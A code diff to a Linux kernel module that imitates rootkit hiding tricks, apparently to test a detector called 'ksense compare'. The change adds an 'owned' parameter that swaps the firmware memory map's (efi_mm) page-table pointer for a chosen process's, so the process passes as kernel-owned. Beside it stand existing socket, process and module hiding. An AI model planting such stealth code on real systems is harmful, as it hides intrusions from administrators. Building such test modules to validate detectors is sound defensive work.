@@ -44,6 +44,9 @@
  *   port=N      leaves the TCP sockets of this local port out of /proc/net/tcp, by a kprobe on the
  *               function that shows one, as Reptile does it.  Nothing that the kernel keeps is
  *               changed: ksense compare finds it as "socket-not-in-proc".
+ *   owned=PID   has the kernel say that the process's page tables are its own, those for calls of
+ *               the firmware (efi_mm), of which a Dom0 has none.  Hidden as tree= beside it, and
+ *               asleep, it is found as "hidden-process" still.
  *   shade=HOW   says, 100 times a second, that a module comes that has all of the modules' area,
  *               so that whatever is wrong there looks like one that just comes: 1, one that there
  *               is not; 2, one that is put into the list for that.  "modules" has to report it all
@@ -296,6 +299,44 @@ MODULE_PARM_DESC(both, "thread to take out of both");
 module_param_cb(child, &hiding_ops, &hide_child, 0600);
 MODULE_PARM_DESC(child, "process to take out of its parent's children, into a list of its own");
 
+static struct mm_struct *firmware_mm;
+static pgd_t *firmware_pgd;
+static int owned;
+
+static int set_owned(const char *text, const struct kernel_param *param)
+{
+	struct task_struct *task;
+	struct pid *pid;
+	int number, error = kstrtoint(text, 0, &number);
+
+	if (!error)
+		error = find_symbols();
+	if (error || !number == !owned)
+		return error;
+	if (!firmware_mm)
+		return -ENOENT;
+	if (!number) {
+		WRITE_ONCE(firmware_mm->pgd, firmware_pgd);
+		owned = 0;
+		return 0;
+	}
+	pid = find_get_pid(number);
+	task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;
+	put_pid(pid);
+	if (!task)
+		return -ESRCH;
+	firmware_pgd = firmware_mm->pgd;
+	WRITE_ONCE(firmware_mm->pgd, task->mm->pgd);
+	owned = number;
+	put_task_struct(task);
+	return 0;
+}
+
+static const struct kernel_param_ops owned_ops = { .set = set_owned, .get = param_get_int };
+
+module_param_cb(owned, &owned_ops, &owned, 0600);
+MODULE_PARM_DESC(owned, "process whose page tables are to look like the kernel's own");
+
 static struct task_struct *ended_thread;
 
 static int run_on(void *unused)
@@ -528,6 +569,7 @@ static int find_symbols(void)
 	modules_mutex = (void *)lookup("module_mutex");
 	modules_list = (void *)lookup("modules");
 	modules_notifier = (void *)lookup("module_notify_list");
+	firmware_mm = (void *)lookup("efi_mm");
 	return tasks_lock && modules_mutex && modules_list && modules_notifier ? 0 : -ENOENT;
 }
 
@@ -543,6 +585,8 @@ static void __exit hide_stop(void)
 
 	if (hidden_port)
 		unregister_kprobe(&show_probe);
+	if (owned)
+		WRITE_ONCE(firmware_mm->pgd, firmware_pgd);
 	if (ended_thread)
 		end_ended();
 	for (unsigned int i = 0; i < ARRAY_SIZE(all); i++) {
